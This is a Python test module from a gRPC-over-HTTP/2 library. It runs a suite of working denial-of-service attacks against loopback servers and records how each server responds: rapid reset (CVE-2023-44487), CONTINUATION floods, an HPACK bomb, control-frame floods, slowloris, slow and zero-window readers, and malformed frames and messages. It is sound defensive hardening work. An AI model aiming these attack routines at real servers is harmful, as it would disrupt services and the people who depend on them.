"""The HTTP/2 attacks of the attack suite: hostile clients against a gRPC server on loopback.

Each ``Attack`` drives raw frames (hand-built, headers encoded with ``hpack``) at a server
and returns what the server answered (``Observed``: GOAWAYs, RST_STREAMs, statuses, whether
it closed the connection). ``run_attack`` repeats one attack for a while, as an attacker
would, while a well-behaved client in another process (``attack_probe.py``) keeps calling
the same server on its own connection, samples the server process's resident memory, and
times a fresh connection's first call afterwards; the result is an ``AttackRow``.

Any server with ``/test.Test/Echo``, ``/test.Test/Size`` and ``/test.Test/Collect`` (see
``attack_target.py`` and ``grpcio_server.py``) can be the target. Every wait is bounded.
"""

from __future__ import annotations

import asyncio
import collections
import contextlib
import dataclasses
import json
import socket
import struct
import sys
import time
from typing import Awaitable, Callable, Counter, Dict, List, Optional, Sequence, Tuple

import hpack
from _attack_report import AttackRow, rss_mib
from _frames import frame
from _support import HelperProcess, start_helper
from h2.errors import ErrorCodes

from wove_h2grpc import Channel, GrpcError
from wove_h2grpc.protocol.status import StatusCode

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x5, 0x6, 0x7, 0x8, 0x9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE = 0x4, 0x5
MAX_WINDOW = (1 << 31) - 1


def settings_payload(settings: Dict[int, int]) -> bytes:
    return b"".join(struct.pack(">HI", key, value) for key, value in settings.items())


def grpc_message(payload: bytes, *, compressed: bool = False) -> bytes:
    return bytes([1 if compressed else 0]) + struct.pack(">I", len(payload)) + payload


def request_headers(
    path: str = "/test.Test/Echo",
    *,
    content_type: str = "application/grpc",
    te: Optional[str] = "trailers",
    extra: Sequence[Tuple[str, str]] = (),
) -> List[Tuple[str, str]]:
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("content-type", content_type),
    ]
    if te is not None:
        headers.append(("te", te))
    return headers + list(extra)


@dataclasses.dataclass
class Observed:
    """What a server sent back on one or more attacking connections."""

    goaways: List[Tuple[int, bytes]] = dataclasses.field(default_factory=list)
    resets: Counter[int] = dataclasses.field(default_factory=collections.Counter)
    grpc_statuses: Counter[int] = dataclasses.field(default_factory=collections.Counter)
    http_statuses: Counter[int] = dataclasses.field(default_factory=collections.Counter)
    closed: int = 0  # connections the server closed
    connections: int = 0
    note: str = ""

    def merge(self, other: Observed) -> None:
        self.goaways += other.goaways
        self.resets.update(other.resets)
        self.grpc_statuses.update(other.grpc_statuses)
        self.http_statuses.update(other.http_statuses)
        self.closed += other.closed
        self.connections += other.connections
        self.note = self.note or other.note

    def goaway_codes(self) -> List[int]:
        return [code for code, _ in self.goaways]

    def reaction(self) -> str:
        """A short description of the answer, from the data (most severe first)."""
        parts: List[str] = []
        errors = [(c, d) for c, d in self.goaways if c != ErrorCodes.NO_ERROR]
        if errors:
            code, debug = errors[0]
            text = f"GOAWAY {_code_name(code)}"
            if debug and debug.isascii() and debug.decode().isprintable():
                text += f" {debug.decode()}"
            parts.append(text)
        for code, count in sorted(self.resets.items()):
            parts.append(f"RST_STREAM {_code_name(code)} x{count}")
        for code, count in sorted(self.grpc_statuses.items()):
            parts.append(f"{_status_name(code)} x{count}")
        for code, count in sorted(self.http_statuses.items()):
            if code != 200:
                parts.append(f"HTTP {code} x{count}")
        if self.closed and not errors:
            parts.append(f"closed {self.closed}/{self.connections}")
        if self.note:
            parts.append(self.note)
        return ", ".join(parts) if parts else "none (connection held open)"


def _code_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def _status_name(code: int) -> str:
    try:
        return StatusCode(code).name
    except ValueError:
        return f"grpc-status {code}"


class Peer:
    """One raw attacking connection: sends bytes, parses what the server sends back.

    It acknowledges the server's SETTINGS (as any client must), tracks the server's
    flow-control windows for ``send_data`` and decodes response headers for their statuses.
    """

    def __init__(self) -> None:
        self.observed = Observed(connections=1)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 26
        self.closed = asyncio.Event()
        self.server_settings = asyncio.Event()
        self.peer_initial_window = 65535
        self.conn_window = 65535
        self.stream_windows: Dict[int, int] = {}
        self.max_frame = 16384
        self.window_changed = asyncio.Event()
        self._buffer = bytearray()
        self._block: Optional[bytearray] = None
        self._reader: Optional[asyncio.StreamReader] = None
        self._writer: Optional[asyncio.StreamWriter] = None
        self._task: Optional[asyncio.Task[None]] = None
        self._read_delay = 0.0
        self._closing = False  # we are closing: the end of the stream is ours, not the server's
        self.ack_data = False  # grant back every DATA frame's bytes at once (stream + conn)
        self.data: Dict[int, int] = collections.Counter()  # DATA bytes received per stream

    @classmethod
    async def connect(
        cls,
        port: int,
        *,
        settings: Optional[Dict[int, int]] = None,
        preface: bool = True,
        rcvbuf: Optional[int] = None,
        read_delay: float = 0.0,
    ) -> Peer:
        """Connect to 127.0.0.1:``port`` and (unless ``preface=False``) send the preface."""
        peer = cls()
        peer._read_delay = read_delay
        loop = asyncio.get_running_loop()
        if rcvbuf is not None:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            sock.setblocking(False)
            await asyncio.wait_for(loop.sock_connect(sock, ("127.0.0.1", port)), 5)
            peer._reader, peer._writer = await asyncio.open_connection(sock=sock, limit=4096)
        else:
            peer._reader, peer._writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port), 5
            )
        peer._task = asyncio.ensure_future(peer._read_loop())
        if preface:
            peer.send(PREFACE + frame(SETTINGS, 0, 0, settings_payload(settings or {})))
        return peer

    # -- sending -------------------------------------------------------------------------

    def send(self, data: bytes) -> None:
        if self._writer is not None and not self.closed.is_set():
            self._writer.write(data)

    async def drain(self, timeout: float = 2.0) -> bool:
        """Wait (bounded) until the socket took our bytes; False if it did not or closed."""
        if self._writer is None or self.closed.is_set():
            return False
        try:
            await asyncio.wait_for(self._writer.drain(), timeout)
        except (ConnectionError, asyncio.TimeoutError, OSError):
            return False
        return not self.closed.is_set()

    def headers_block(self, headers: Sequence[Tuple[str, str]]) -> bytes:
        return bytes(self.encoder.encode(headers))

    def open_stream(self, stream_id: int, block: bytes, *, end_stream: bool = False) -> None:
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        self.stream_windows[stream_id] = self.peer_initial_window
        self.send(frame(HEADERS, flags, stream_id, block))

    async def send_data(
        self, stream_id: int, data: bytes, *, end_stream: bool = False, timeout: float = 2.0
    ) -> int:
        """Send ``data`` on a stream within the server's windows; returns the bytes sent
        (fewer when the windows stayed shut for ``timeout``)."""
        sent = 0
        deadline = time.monotonic() + timeout
        while sent < len(data) and not self.closed.is_set():
            window = min(self.conn_window, self.stream_windows.get(stream_id, 0))
            if window <= 0:
                self.window_changed.clear()
                left = deadline - time.monotonic()
                if left <= 0:
                    break
                try:
                    await asyncio.wait_for(self.window_changed.wait(), left)
                except asyncio.TimeoutError:
                    break
                continue
            size = min(window, self.max_frame, len(data) - sent)
            last = end_stream and sent + size == len(data)
            self.send(frame(DATA, END_STREAM if last else 0, stream_id, data[sent : sent + size]))
            self.conn_window -= size
            self.stream_windows[stream_id] -= size
            sent += size
            if not await self.drain():
                break
        return sent

    async def wait_closed(self, timeout: float) -> bool:
        """Wait up to ``timeout`` for the server to close; True if it did."""
        try:
            await asyncio.wait_for(self.closed.wait(), timeout)
        except asyncio.TimeoutError:
            return False
        return True

    async def close(self) -> Observed:
        """Close our side (if still open) and return what was observed."""
        self._closing = True
        if self._writer is not None:
            self._writer.close()
            with contextlib.suppress(ConnectionError, asyncio.TimeoutError, OSError):
                await asyncio.wait_for(self._writer.wait_closed(), 2)
        if self._task is not None:
            self._task.cancel()
            with contextlib.suppress(asyncio.CancelledError, asyncio.TimeoutError):
                await asyncio.wait_for(self._task, 2)
        return self.observed

    # -- receiving -----------------------------------------------------------------------

    async def _read_loop(self) -> None:
        assert self._reader is not None
        try:
            while True:
                if self._read_delay:
                    await asyncio.sleep(self._read_delay)
                    chunk = await self._reader.read(1024)
                else:
                    chunk = await self._reader.read(1 << 16)
                if not chunk:
                    break
                self._buffer += chunk
                self._parse()
        except (ConnectionError, OSError):
            pass
        finally:
            if not self.closed.is_set():
                if not self._closing:
                    self.observed.closed += 1
                self.closed.set()

    def _parse(self) -> None:
        buf = self._buffer
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos : pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            stream_id = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
            self._on_frame(kind, flags, stream_id, bytes(buf[pos + 9 : pos + 9 + length]))
            pos += 9 + length
        del buf[:pos]

    def _on_frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[i : i + 6])
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self.peer_initial_window
                    self.peer_initial_window = value
                    for sid in self.stream_windows:
                        self.stream_windows[sid] += delta
                elif key == SETTINGS_MAX_FRAME_SIZE:
                    self.max_frame = value
            self.send(frame(SETTINGS, ACK, 0))
            self.server_settings.set()
            self.window_changed.set()
        elif kind == DATA:
            self.data[stream_id] += len(payload)
            if self.ack_data and payload:
                increment = struct.pack(">I", len(payload))
                self.send(
                    frame(WINDOW_UPDATE, 0, stream_id, increment)
                    + frame(WINDOW_UPDATE, 0, 0, increment)
                )
        elif kind == WINDOW_UPDATE and len(payload) == 4:
            increment = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if stream_id == 0:
                self.conn_window += increment
            elif stream_id in self.stream_windows:
                self.stream_windows[stream_id] += increment
            self.window_changed.set()
        elif kind == GOAWAY and len(payload) >= 8:
            code = int.from_bytes(payload[4:8], "big")
            self.observed.goaways.append((code, payload[8:]))
        elif kind == RST_STREAM and len(payload) == 4:
            self.observed.resets[int.from_bytes(payload, "big")] += 1
        elif kind == HEADERS:
            block = payload
            if flags & PADDED:
                block = block[1 : len(block) - block[0]]
            if flags & PRIORITY_FLAG:
                block = block[5:]
            if flags & END_HEADERS:
                self._on_block(block)
            else:
                self._block = bytearray(block)
        elif kind == CONTINUATION and self._block is not None:
            self._block += payload
            if flags & END_HEADERS:
                block, self._block = bytes(self._block), None
                self._on_block(block)

    def _on_block(self, block: bytes) -> None:
        try:
            headers = self.decoder.decode(block, raw=True)
        except Exception:  # a broken block from the server: note it, keep reading
            self.observed.note = "undecodable headers"
            return
        for name, value in headers:
            if name == b":status":
                self.observed.http_statuses[int(value)] += 1
            elif name == b"grpc-status":
                self.observed.grpc_statuses[int(value)] += 1


# -- the attacks ------------------------------------------------------------------------------


async def _rapid_reset(port: int, with_data: bool) -> Observed:
    peer = await Peer.connect(port)
    first = peer.headers_block(request_headers())
    block = peer.headers_block(request_headers())  # all indexed now: the same for every stream
    rst = struct.pack(">I", ErrorCodes.CANCEL)
    stream_id = 1
    for _batch in range(40):
        out = bytearray()
        for _ in range(100):
            out += frame(HEADERS, END_HEADERS, stream_id, first if stream_id == 1 else block)
            if with_data:
                out += frame(DATA, 0, stream_id, grpc_message(b"r" * 100))
            out += frame(RST_STREAM, 0, stream_id, rst)
            stream_id += 2
        peer.send(bytes(out))
        if not await peer.drain():
            break
    await peer.wait_closed(0.5)
    return await peer.close()


async def rapid_reset(port: int) -> Observed:
    """4,000 streams opened and at once reset (HEADERS + RST_STREAM), CVE-2023-44487."""
    return await _rapid_reset(port, with_data=False)


async def rapid_reset_data(port: int) -> Observed:
    """The same with a request message between each HEADERS and its RST_STREAM."""
    return await _rapid_reset(port, with_data=True)


async def continuation_flood(port: int) -> Observed:
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION
    frames of 16 KiB until the server gives up (up to 32 MiB)."""
    peer = await Peer.connect(port)
    head = peer.headers_block(request_headers())
    filler = bytes(hpack.Encoder().encode([("x-pad", "a" * 16000)], huffman=False))
    peer.send(frame(HEADERS, 0, 1, head))
    for _ in range(200):
        peer.send(frame(CONTINUATION, 0, 1, filler) * 10)
        if not await peer.drain():
            break
    await peer.wait_closed(0.5)
    return await peer.close()


async def hpack_bomb(port: int) -> Observed:
    """A 4,000-byte header value put in the HPACK dynamic table, then referenced by 16,000
    one-byte indexes in one header block: 64 MiB of headers from 16 KiB on the wire."""
    peer = await Peer.connect(port)
    encoder = peer.encoder
    head = bytes(encoder.encode(request_headers())) + bytes(
        encoder.encode([("x-bomb", "b" * 4000)], huffman=False)
    )
    # The bomb's entry is the newest in the dynamic table: index 62 (0x80 | 62).
    block = head + b"\xbe" * 16000
    chunks = [block[i : i + 16000] for i in range(0, len(block), 16000)]
    out = frame(HEADERS, END_HEADERS if len(chunks) == 1 else 0, 1, chunks[0])
    for i, chunk in enumerate(chunks[1:], 1):
        out += frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, 1, chunk)
    peer.send(out + frame(DATA, END_STREAM, 1, grpc_message(b"x")))
    await peer.drain()
    await peer.wait_closed(0.5)
    return await peer.close()


async def _flood(port: int, unit: bytes, batches: int = 50) -> Observed:
    peer = await Peer.connect(port)
    for _ in range(batches):
        peer.send(unit * 200)
        if not await peer.drain():
            break
    await peer.wait_closed(0.5)
    return await peer.close()


async def settings_flood(port: int) -> Observed:
    """10,000 empty SETTINGS frames, each forcing an ACK."""
    return await _flood(port, frame(SETTINGS, 0, 0))


async def ping_flood(port: int) -> Observed:
    """10,000 PINGs, each forcing an ACK."""
    return await _flood(port, frame(PING, 0, 0, b"12345678"))


async def window_update_flood(port: int) -> Observed:
    """10,000 WINDOW_UPDATEs of 1 byte on the connection, with nothing to send."""
    return await _flood(port, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


async def zero_window_readers(port: int) -> Observed:
    """A client that grants no window (SETTINGS_INITIAL_WINDOW_SIZE 0) and asks for 1,000
    responses of 400 KiB: 390 MiB of responses the server cannot send (1.5 times the
    Server's default memory budget)."""
    peer = await Peer.connect(port, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0})
    request = grpc_message(json.dumps({"size": 400 * 1024}).encode())
    stream_id = 1
    for _ in range(10):
        out = bytearray()
        for _ in range(100):
            out += frame(
                HEADERS,
                END_HEADERS,
                stream_id,
                peer.headers_block(request_headers("/test.Test/Size")),
            )
            out += frame(DATA, END_STREAM, stream_id, request)
            stream_id += 2
        peer.send(bytes(out))
        if not await peer.drain():
            break
    await peer.wait_closed(2.0)
    return await peer.close()


async def slow_reader(port: int) -> Observed:
    """A client with a 4 KiB socket buffer and unlimited windows that asks for 384 responses
    of 1 MiB (1.5 times the Server's default memory budget), reads 1 KiB every 100 ms for
    1.5 s, then reads at full speed to see how the server answered."""
    peer = await Peer.connect(
        port,
        settings={SETTINGS_INITIAL_WINDOW_SIZE: MAX_WINDOW},
        rcvbuf=4096,
        read_delay=0.1,
    )
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535)))
    request = grpc_message(json.dumps({"size": 1024 * 1024}).encode())
    out = bytearray()
    for i in range(384):
        stream_id = 1 + 2 * i
        block = peer.headers_block(request_headers("/test.Test/Size"))
        out += frame(HEADERS, END_HEADERS, stream_id, block)
        out += frame(DATA, END_STREAM, stream_id, request)
    peer.send(bytes(out))
    await peer.drain()
    await peer.wait_closed(1.5)
    # Catch up: what the server said is behind the response bytes it managed to send.
    peer._read_delay = 0.0
    await peer.wait_closed(3.0)
    return await peer.close()


async def slowloris(port: int) -> Observed:
    """50 connections that drip the client preface one byte every 200 ms (5 s in all)."""
    peers = [await Peer.connect(port, preface=False) for _ in range(50)]
    data = PREFACE + frame(SETTINGS, 0, 0)
    end = time.monotonic() + 3.5
    for i in range(len(data)):
        if time.monotonic() > end:
            break
        for peer in peers:
            peer.send(data[i : i + 1])
        await asyncio.sleep(0.2)
    observed = Observed()
    closed = sum(1 for peer in peers if peer.closed.is_set())
    for peer in peers:
        observed.merge(await peer.close())
    observed.closed = closed
    return observed


async def huge_length_prefix(port: int) -> Observed:
    """A request message whose prefix announces 0xFFFFFFFF bytes (4 GiB)."""
    peer = await Peer.connect(port)
    peer.open_stream(1, peer.headers_block(request_headers()))
    peer.send(frame(DATA, END_STREAM, 1, b"\x00\xff\xff\xff\xff" + b"z" * 1000))
    await peer.drain()
    await peer.wait_closed(0.5)
    return await peer.close()


async def streams_over_limit(port: int) -> Observed:
    """1,100 request streams left open at once (more than the 1,000 we advertise)."""
    peer = await Peer.connect(port)
    await asyncio.wait_for(peer.server_settings.wait(), 2)
    out = bytearray()
    for i in range(1100):
        out += frame(
            HEADERS,
            END_HEADERS,
            1 + 2 * i,
            peer.headers_block(request_headers("/test.Test/Collect")),
        )
    peer.send(bytes(out))
    await peer.drain()
    await peer.wait_closed(1.0)
    return await peer.close()


async def _one_frame(port: int, data: bytes, *, stream: bool = False) -> Observed:
    peer = await Peer.connect(port)
    if stream:
        peer.open_stream(1, peer.headers_block(request_headers()))
    peer.send(data)
    await peer.drain()
    await peer.wait_closed(0.5)
    return await peer.close()


async def data_on_stream_0(port: int) -> Observed:
    return await _one_frame(port, frame(DATA, 0, 0, b"x" * 10))


async def headers_on_even_stream(port: int) -> Observed:
    peer = await Peer.connect(port)
    peer.open_stream(2, peer.headers_block(request_headers()), end_stream=True)
    await peer.drain()
    await peer.wait_closed(0.5)
    return await peer.close()


async def window_update_zero(port: int) -> Observed:
    return await _one_frame(port, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))


async def window_overflow(port: int) -> Observed:
    """Two connection WINDOW_UPDATEs that take the window past 2^31 - 1."""
    unit = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW))
    return await _one_frame(port, unit * 2)


async def oversize_frame(port: int) -> Observed:
    """A 70,000-byte DATA frame (more than any SETTINGS_MAX_FRAME_SIZE the servers set)."""
    return await _one_frame(port, frame(DATA, 0, 1, b"\x00" * 70000), stream=True)


async def _one_request(port: int, headers: List[Tuple[str, str]], body: bytes) -> Observed:
    peer = await Peer.connect(port)
    peer.open_stream(1, peer.headers_block(headers))
    peer.send(frame(DATA, END_STREAM, 1, body))
    await peer.drain()
    deadline = time.monotonic() + 1.0
    while (
        time.monotonic() < deadline
        and not peer.closed.is_set()
        and not peer.observed.grpc_statuses
        and not peer.observed.resets
        and not sum(c for s, c in peer.observed.http_statuses.items() if s != 200)
    ):
        await asyncio.sleep(0.01)
    return await peer.close()


async def bad_content_type(port: int) -> Observed:
    return await _one_request(port, request_headers(content_type="text/html"), grpc_message(b"x"))


async def missing_te(port: int) -> Observed:
    return await _one_request(port, request_headers(te=None), grpc_message(b"x"))


async def compressed_without_encoding(port: int) -> Observed:
    """A message flagged compressed on a call that named no grpc-encoding."""
    return await _one_request(port, request_headers(), grpc_message(b"x", compressed=True))


async def truncated_message(port: int) -> Observed:
    """The request stream ends 90 bytes into a message whose prefix says 100."""
    return await _one_request(port, request_headers(), b"\x00" + struct.pack(">I", 100) + b"t" * 10)


async def partial_bodies(port: int) -> Observed:
    """20 connections x 4 streams, each sending all but the last KiB of a 4 MiB message and
    never finishing it: 320 MiB of request bytes the server must hold or refuse."""
    message_size = 4 * 1024 * 1024 - 64
    body = b"\x00" + struct.pack(">I", message_size) + b"p" * (message_size - 1024)
    peers = [await Peer.connect(port) for _ in range(20)]

    async def fill(peer: Peer) -> None:
        await asyncio.wait_for(peer.server_settings.wait(), 2)
        sends = []
        for i in range(4):
            stream_id = 1 + 2 * i
            peer.open_stream(stream_id, peer.headers_block(request_headers()))
            sends.append(peer.send_data(stream_id, body, timeout=1.0))
        await asyncio.gather(*sends)

    await asyncio.wait_for(asyncio.gather(*(fill(p) for p in peers), return_exceptions=True), 15)
    await asyncio.sleep(0.5)
    observed = Observed()
    for peer in peers:
        observed.merge(await peer.close())
    return observed


@dataclasses.dataclass
class Attack:
    """One attack: ``once`` drives it on fresh connections and returns what was seen;
    ``run_attack`` repeats it (``repeat``) for ``duration`` seconds."""

    name: str
    once: Callable[[int], Awaitable[Observed]]
    duration: float = 1.5
    repeat: bool = True


ATTACKS: List[Attack] = [
    Attack("rapid reset (HEADERS+RST)", rapid_reset),
    Attack("rapid reset with DATA", rapid_reset_data),
    Attack("CONTINUATION flood", continuation_flood),
    Attack("HPACK bomb", hpack_bomb),
    Attack("SETTINGS flood", settings_flood),
    Attack("PING flood", ping_flood),
    Attack("WINDOW_UPDATE flood", window_update_flood),
    Attack("zero-window readers (1,000 x 400 KiB)", zero_window_readers, repeat=False),
    Attack("slow reader (384 x 1 MiB)", slow_reader, repeat=False),
    Attack("slowloris (50 preface drips)", slowloris, repeat=False),
    Attack("0xFFFFFFFF length prefix", huge_length_prefix),
    Attack("streams over the limit (1,100)", streams_over_limit, repeat=False),
    Attack("DATA on stream 0", data_on_stream_0),
    Attack("HEADERS on an even stream", headers_on_even_stream),
    Attack("WINDOW_UPDATE of 0", window_update_zero),
    Attack("window overflow", window_overflow),
    Attack("oversize frame (70,000 B)", oversize_frame),
    Attack("content-type text/html", bad_content_type),
    Attack("no te: trailers", missing_te),
    Attack("compressed flag, no grpc-encoding", compressed_without_encoding),
    Attack("truncated message", truncated_message),
    Attack("partial bodies (80 x 4 MiB)", partial_bodies, repeat=False),
]


# -- running an attack ----------------------------------------------------------------------


@dataclasses.dataclass
class Target:
    """A server process under attack."""

    name: str
    helper: HelperProcess

    @property
    def port(self) -> int:
        return self.helper.port

    @property
    def pid(self) -> int:
        return self.helper.proc.pid

    def alive(self) -> bool:
        return self.helper.proc.poll() is None

    def stop(self) -> None:
        self.helper.stop()


def start_ours() -> Target:
    """Our Server (tests/attack_target.py) with a 2 s handshake timeout (for slowloris)."""
    helper = start_helper("attack_target.py", ["--handshake-timeout", "2"], python=sys.executable)
    return Target("wove_h2grpc", helper)


def start_grpcio() -> Target:
    """grpc.aio's server (tests/grpcio_server.py) with its defaults."""
    from _support import grpcio_python

    return Target("grpcio", start_helper("grpcio_server.py", [], python=grpcio_python()))


@dataclasses.dataclass
class Run:
    """Everything one run of an attack produced, for the test's assertions."""

    row: AttackRow
    observed: Observed
    rounds: int
    probe_errors: List[str]
    alive: bool


async def fresh_call_ms(port: int) -> Optional[float]:
    """Time a new connection's first Echo call (None if it failed)."""
    start = time.perf_counter()
    try:
        async with Channel(f"127.0.0.1:{port}") as channel:
            reply = await channel.unary_unary("/test.Test/Echo")(b"fresh", timeout=2.0)
    except GrpcError:
        return None
    if reply != b"fresh":
        return None
    return (time.perf_counter() - start) * 1000


def p99(values: Sequence[float]) -> Optional[float]:
    if not values:
        return None
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]


async def run_attack(attack: Attack, target: Target) -> Run:
    """Run ``attack`` against ``target`` with the probe beside it; bounded in time."""
    await asyncio.sleep(0.2)  # let the server settle after start-up or the previous attack
    rss_before = rss_mib(target.pid)
    peak = rss_before
    probe = start_helper(
        "attack_probe.py",
        ["--port", str(target.port), "--duration", str(attack.duration + 0.3)],
        python=sys.executable,
    )
    sampling = True

    async def sample() -> None:
        nonlocal peak
        while sampling:
            try:
                peak = max(peak, rss_mib(target.pid))
            except OSError:
                return
            await asyncio.sleep(0.02)

    sampler = asyncio.ensure_future(sample())
    observed = Observed()
    rounds = 0
    end = time.monotonic() + attack.duration
    try:
        while True:
            observed.merge(await asyncio.wait_for(attack.once(target.port), 30))
            rounds += 1
            if not attack.repeat or time.monotonic() >= end:
                break
        loop = asyncio.get_running_loop()
        await asyncio.wait_for(loop.run_in_executor(None, probe.proc.wait), 30)
    finally:
        probe.stop()
        sampling = False
        await asyncio.wait_for(sampler, 5)
    result_lines = [line for line in probe.lines if line.startswith("RESULT ")]
    result = json.loads(result_lines[-1][len("RESULT ") :]) if result_lines else None
    fresh = await fresh_call_ms(target.port)
    await asyncio.sleep(0.3)
    alive = target.alive()
    rss_after = rss_mib(target.pid) if alive else None
    latencies = result["latencies_ms"] if result else []
    lost = result["lost"] if result else 0
    row = AttackRow(
        side="server",
        attack=attack.name,
        target=target.name,
        reaction=observed.reaction() if alive else "SERVER DIED",
        probe_p99_ms=p99(latencies),
        probe_calls=len(latencies) + lost,
        probe_lost=lost if result else -1,
        fresh_ms=fresh,
        rss_before_mib=rss_before,
        rss_peak_mib=peak,
        rss_after_mib=rss_after,
    )
    return Run(row, observed, rounds, result["errors"] if result else ["no probe result"], alive)
